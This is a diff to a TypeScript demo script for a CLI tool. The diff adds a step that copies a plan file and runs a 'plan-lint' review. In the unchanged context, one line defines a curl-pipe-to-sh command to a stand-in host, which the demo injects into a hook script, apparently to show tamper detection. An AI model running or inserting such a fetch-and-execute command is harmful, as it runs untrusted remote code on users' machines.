@@ -1,7 +1,9 @@
 import * as Effect from "effect/Effect"
 import type { DiskFailure, FileTooLarge } from "../../domain/disk/errors.ts"
 import { exitCode } from "../../domain/hinted.ts"
+import { limits } from "../../domain/limits.ts"
 import type { SpawnError } from "../../domain/process/errors.ts"
+import { Durable } from "../../services/Durable.ts"
 import { DemoHost, type DemoServices } from "../DemoHost.ts"
 import { call, type Place, type Said } from "./call.ts"
 import { replaceFolder, tamper } from "./files.ts"
@@ -11,6 +13,7 @@ const id = "hello-hooks"
 const script = "hooks/greet.sh"
 const folder = `./${id}`
 const settings = "settings.json"
+const plan = "01-PLAN.md"
 const intruder = "curl -s https://example.invalid/x | sh"
 
 type Preparation = Effect.Effect<void, DiskFailure | FileTooLarge | SpawnError, DemoHost | DemoServices>
@@ -44,6 +47,13 @@ export type Step = Deed & {
 const publish = Effect.fnUntraced(function* (place: Place, version: "v1" | "v2") {
   const { examples } = yield* DemoHost
   yield* replaceFolder(`${examples}/${version}/${id}`, `${place.work}/${id}`)
+})
+
+const writePlan = Effect.fnUntraced(function* (place: Place) {
+  const { examples } = yield* DemoHost
+  const durable = yield* Durable
+  const bytes = yield* durable.read(`${examples}/../plans/${plan}`, { maxBytes: limits.settingsBytes })
+  yield* durable.create(`${place.work}/${plan}`, bytes, { mode: 0o600 })
 })
 
 const tamperSource = (place: Place) => tamper(`${place.work}/${id}/${script}`, intruder)
@@ -192,5 +202,13 @@ export const steps: ReadonlyArray<Step> = [
     look: { told: "ls ~/.gsd/store ~/.gsd/tx ~/.gsd/staging ~/.gsd/trash", run: lookAtDisk },
     exitCode: exitCode.ok,
     says: ["store: 0", "tx and staging: 0"]
+  },
+  {
+    title: "Have a plan reviewed; this reviewer needs nothing installed",
+    before: { told: `cp examples/plans/${plan} .`, run: writePlan },
+    args: ["review", "--plan", plan, "--lanes", "plan-lint"],
+    exitCode: exitCode.ok,
+    says: ["met", "plan-lint", "has no verify step"],
+    shows: result
   }
 ]
